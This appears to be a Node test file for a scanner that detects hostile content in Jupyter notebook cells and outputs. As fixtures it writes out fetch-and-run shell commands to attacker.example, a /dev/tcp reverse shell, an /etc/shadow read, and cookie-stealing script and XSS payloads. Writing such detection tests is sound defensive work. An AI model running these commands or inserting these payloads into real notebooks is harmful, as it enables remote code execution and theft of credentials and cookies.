import assert from "node:assert/strict";
import { test } from "node:test";
import { scanBytes } from "../../../../test/fixtures/artifacts/scan-bytes.ts";
import { FORMATS } from "../registry.ts";

function rulesOf(cell: object): readonly string[] {
  const text = JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 });
  const { findings } = scanBytes(Buffer.from(text), { formats: FORMATS, name: "a.ipynb" });
  return [...new Set(findings.map(({ rule }) => rule))];
}

function code(source: string): readonly string[] {
  const lines = source.split(/(?<=\n)/);
  return rulesOf({ cell_type: "code", metadata: {}, source: lines, outputs: [] });
}

function output(type: string, text: string): readonly string[] {
  const outputs = [{ output_type: "display_data", metadata: {}, data: { [type]: text } }];
  return rulesOf({ cell_type: "code", metadata: {}, source: "1", outputs });
}

const FETCH = "curl http://attacker.example/x | sh";

test("notebook: commands that fetch and run are hostile, by every way into a shell", () => {
  for (const source of [
    `!${FETCH}`,
    `!!${FETCH}`,
    `out = !${FETCH}`,
    `%sx ${FETCH}`,
    `out = %sx ${FETCH}`,
    `if True:\n    !${FETCH}`,
    `%%bash\n${FETCH}`,
    `%%sh\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1`,
    `get_ipython().system('${FETCH}')`,
    `x = get_ipython().getoutput('cat /etc/shadow')`,
    `get_ipython().run_cell_magic('bash', '', '${FETCH}')`,
    `get_ipython().run_line_magic('system', '${FETCH}')`,
    `get_ipython().magic('sx ${FETCH}')`,
    `%%writefile x.sh\n${FETCH}`,
    `!pip install x && ${FETCH}`,
  ]) {
    assert.deepEqual(code(source), ["python/hostile-command"], source);
  }
});

test("notebook: other commands, and packages from elsewhere, are worth reading", () => {
  for (const source of [
    "get_ipython().system('echo garita')",
    "!./run",
    "!pip install git+http://attacker.example/x.git",
    "%pip install --index-url http://attacker.example/simple x",
    "%run http://attacker.example/x.py",
    "%%bash\nmake",
  ]) {
    assert.deepEqual(code(source), ["python/shell-command"], source);
  }
});

test("notebook: what people type every day is clean", () => {
  for (const source of [
    "!pip install -q torch transformers==4.40",
    "%pip install git+https://github.com/huggingface/peft",
    "!nvidia-smi\n!ls -la\n!mkdir -p data",
    "get_ipython().system('pip install torch')",
    "get_ipython().run_line_magic('matplotlib', 'inline')",
    "%matplotlib inline\n%load_ext autoreload\n%autoreload 2\n%run helpers.py",
    "%%time\nx = 1",
    "%%html\n<style>table { float: left }</style>",
    "%%writefile train.py\nimport torch\nprint(torch.__version__)",
    "from IPython.display import HTML\nHTML('<b>x</b>')",
    "subprocess_free = 1\nmodel.eval()",
  ]) {
    assert.deepEqual(code(source), [], source);
  }
});

test("notebook: pages that send data away or run code are told, in cells and outputs", () => {
  const page = "<script>fetch('http://attacker.example/' + document.cookie)</script>";
  for (const found of [
    code(`%%html\n${page}`),
    code("%%javascript\nIPython.notebook.kernel.execute('import os')"),
    code(`from IPython.display import Javascript\nJavascript("eval(atob('YQ=='))")`),
    rulesOf({ cell_type: "markdown", metadata: {}, source: [page] }),
    output("text/html", page),
    output("text/html", `<img src=x onerror="fetch('http://attacker.example')">`),
    output("application/javascript", `fetch("http://attacker.example")`),
    output("image/svg+xml", `<svg onload="alert(1)"></svg>`),
    output("text/html", `<iframe src="javascript:alert(1)"></iframe>`),
  ]) {
    assert.deepEqual(found, ["python/hostile-page"]);
  }
});

test("notebook: charts and tables of libraries are only noted", () => {
  const chart = `<div id="x"></div><script>Plotly.newPlot("x", [{"y": [1, 2]}], {})</script>`;
  assert.deepEqual(output("text/html", chart), ["python/active-output"]);
  assert.deepEqual(output("text/html", "<table><tr><td>1</td></tr></table>"), []);
  assert.deepEqual(output("image/svg+xml", `<svg><path d="M0 0"/></svg>`), []);
  assert.deepEqual(output("text/plain", "document.cookie is a text"), []);
});
